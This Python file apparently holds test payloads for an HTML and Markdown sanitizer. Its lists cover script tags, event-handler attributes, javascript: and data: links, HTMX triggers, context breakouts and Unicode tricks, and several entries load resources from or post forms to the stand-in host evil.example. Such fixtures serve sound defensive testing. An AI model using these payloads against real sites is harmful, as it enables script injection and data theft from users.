"""Texts that try to run a script, to load something from elsewhere, or to break out of where they are shown.

Each sets ``window.__xss``, opens a dialog, or calls ``evil.example``; a test watches for all three.
"""

X = "window.__xss=1"

ELEMENTS = [
    f"<script>{X}</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    f"<script type=module>{X}</script>",
    f"<img src=x onerror={X}>",
    "<img src='https://evil.example/pixel.gif'>",
    f"<svg onload={X}>",
    f"<svg><script>{X}</script></svg>",
    f"<svg><a xlink:href='javascript:{X}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={X} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg onload={X}>'>",
    f"<svg><foreignObject><iframe srcdoc='<script>parent.{X}</script>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={X}>",
    f"<math href='javascript:{X}'>click</math>",
    f"<math><maction actiontype='statusline#' xlink:href='javascript:{X}'>x",
    f"<iframe src='javascript:parent.{X}'></iframe>",
    f"<iframe srcdoc='<script>parent.{X}</script>'></iframe>",
    f"<object data='javascript:{X}'></object>",
    f"<embed src='javascript:{X}'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action='https://evil.example'><button autofocus>x</button></form>",
    f"<input autofocus onfocus={X}>",
    f"<button popovertarget=x onclick={X} autofocus>x</button>",
    f"<details open ontoggle={X}>x</details>",
    f"<video src=x onerror={X}></video>",
    f"<audio autoplay src=x onerror={X}>",
    f"<body onload={X} onpageshow={X}>",
    f"<marquee onstart={X}>x</marquee>",
    f"<div onpointerenter={X} style='position:fixed;inset:0'>x</div>",
    f"<p onanimationstart={X} style='animation:x 1s'>x</p>",
    "<p id=work-data>{}</p>",
    "<dialog id=skip-dialog open>x</dialog>",
]
LINKS = [
    f"<a href='javascript:{X}'>x</a>",
    f"[click](javascript:{X})",
    f"[click](JaVaScRiPt:{X})",
    f"[click](java\tscript:{X})",
    f"[click](&#106;avascript:{X})",
    f"[click](data:text/html,<script>{X}</script>)",
    f"[click](vbscript:{X})",
    f"<javascript:{X}>",
    f"![x](javascript:{X})",
    "![x](https://evil.example/pixel.gif)",
    f'[x](https://a.example "\\" onmouseover={X} x=\\"")',
    f"[x]: javascript:{X}",
]
HTMX = [
    "<p hx-get='https://evil.example/' hx-trigger=load>x</p>",
    "<p data-hx-post='/projects/new/' data-hx-trigger=load>x</p>",
    f"<p hx-on::load='{X}' hx-on:click='{X}'>x</p>",
    f"<p hx-vals='js:{{a: {X}}}' hx-get='/' hx-trigger=load>x</p>",
]
BREAKS = [
    f"</script><script>{X}</script>",
    f"</textarea></title></style><script>{X}</script>",
    f"--><script>{X}</script><!--",
    f"'\"><img src=x onerror={X}>",
    f'" autofocus onfocus={X} x="',
    f"';{X};//",
    f"${{{X}}} {{{{{X}}}}} {{% {X} %}}",
    "{{ request.user.password }} {% load static %}",
    f"```html onload={X}\n<script>{X}</script>\n```",
    f'```"><script>{X}</script>\nx\n```',
    f"]]><script>{X}</script>",
    f"\u2028\u2029;{X}//",
    f"＜script＞{X}＜/script＞",
]
BIDI = [f"\u202e<script>{X}</script>\u202c", "\u2066abc\u2067\u200f\u202egpj.exe", "\u200b\ufeff\u00ad<b>zero width"]

PAYLOADS = [*ELEMENTS, *LINKS, *HTMX, *BREAKS, *BIDI]


def short(limit: int) -> list[str]:
    """Those of at most ``limit`` characters in one line."""
    return [text for text in PAYLOADS if len(text) <= limit and not set(text) & set("\n\t\u2028\u2029")]
